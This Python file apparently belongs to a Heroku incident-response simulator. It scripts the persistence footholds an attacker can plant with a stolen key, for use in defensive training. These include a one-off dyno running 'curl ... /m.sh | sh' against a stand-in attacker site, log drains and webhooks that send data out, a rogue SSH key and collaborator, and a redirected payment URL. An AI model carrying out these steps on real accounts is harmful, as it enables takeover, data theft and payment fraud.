"""Attackers who come back: each family of foothold as one deed against the simulated Heroku."""

from __future__ import annotations

from collections.abc import Callable

from herotui.simulator.attack import ADDRESS, HOST, MAIL, SITE
from herotui.simulator.company import Plan, authorize, ssh_key
from herotui.simulator.course import caller
from herotui.simulator.world import World

Deeds = dict[str, tuple[Callable[[], object], str]]


def deeds(world: World) -> Deeds:
    """What an attacker does with another key of the owner's, by family, and a word of the line that tells of it."""
    app = next(iter(world.apps.values())).name
    by = caller(world, world.responder_key, ADDRESS)
    if world.account_named(MAIL) is None:
        world.meet(MAIL)
    hook = {"include": ["api:release"], "level": "notify", "url": f"https://hooks.{SITE}/in"}
    ssh = {"public_key": ssh_key(world.mint, "root@kali", world.clock.now()).public_key}
    run = {"command": f"curl -s https://{SITE}/m.sh | sh", "size": "Standard-1X", "type": "run"}
    mine = {"updates": [{"type": "worker", "quantity": 6, "size": "Performance-L"}]}
    packs = {"updates": [{"buildpack": f"https://git.{SITE}/apt"}]}
    asked: dict[str, tuple[str, object, str]] = {
        "authorization": (
            "POST /oauth/authorizations",
            {"description": "gh-actions", "scope": ["global"]},
            "gh-action",
        ),
        "SSH key": ("POST /account/keys", ssh, "root@kali"),
        "OAuth client": (
            "POST /oauth/clients",
            {"name": "Helper", "redirect_uri": f"https://{SITE}/o"},
            "OAuth client",
        ),
        "log drain": (f"POST /apps/{app}/log-drains", {"url": f"https://logs.{SITE}/x"}, "log drain"),
        "webhook": (f"POST /apps/{app}/webhooks", hook, "webhook"),
        "collaborator": (f"POST /apps/{app}/collaborators", {"user": MAIL, "silent": True}, "collaborator"),
        "one-off dyno": (f"POST /apps/{app}/dynos", run, "one-off dyno"),
        "formation": (f"PATCH /apps/{app}/formation", mine, "worker"),
        "config var": (f"PATCH /apps/{app}/config-vars", {"PAYMENT_URL": f"https://pay.{SITE}/c"}, "PAYMENT_URL"),
        "domain": (f"POST /apps/{app}/domains", {"hostname": "status.x.example", "sni_endpoint": None}, "status.x.exa"),
        "buildpack": (f"PUT /apps/{app}/buildpack-installations", packs, "git.cdn-metrics"),
    }

    def log_in() -> None:
        plan = Plan("Heroku CLI login from {host}", ("global",), 0, lasts_days=30, session=True)
        authorize(world, world.mint, world.owner, plan, world.clock.now(), HOST)

    def deed(line: str, body: object) -> Callable[[], object]:
        def act() -> None:
            assert by.ask(line, body, variant="3.sdk" if "oauth/auth" in line else "3") is not None, by.refused

        return act

    made = {family: (deed(line, body), word) for family, (line, body, word) in asked.items()}
    return {**made, "log-in": (log_in, HOST)}
